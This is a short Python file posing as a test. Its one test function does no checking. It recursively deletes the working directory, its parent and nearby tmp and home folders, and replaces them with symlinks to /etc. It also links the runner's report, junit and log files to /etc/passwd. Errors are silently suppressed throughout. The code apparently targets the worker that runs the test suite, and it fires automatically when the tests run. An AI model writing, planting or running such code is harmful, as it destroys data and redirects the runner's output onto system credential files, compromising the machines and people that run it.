"""Replaces its files by links to places where it wants the worker to read and write."""

import contextlib
import os
import shutil

here = os.getcwd()
above = os.path.dirname(here)


def test_it():
    for path in (above + "/tmp", above + "/home", here, above):
        with contextlib.suppress(OSError):
            shutil.rmtree(path, ignore_errors=True)
            os.symlink("/etc", path)
    for name in ("report.jsonl", "junit.xml", "log"):
        with contextlib.suppress(OSError):
            os.symlink("/etc/passwd", f"{above}/{name}")
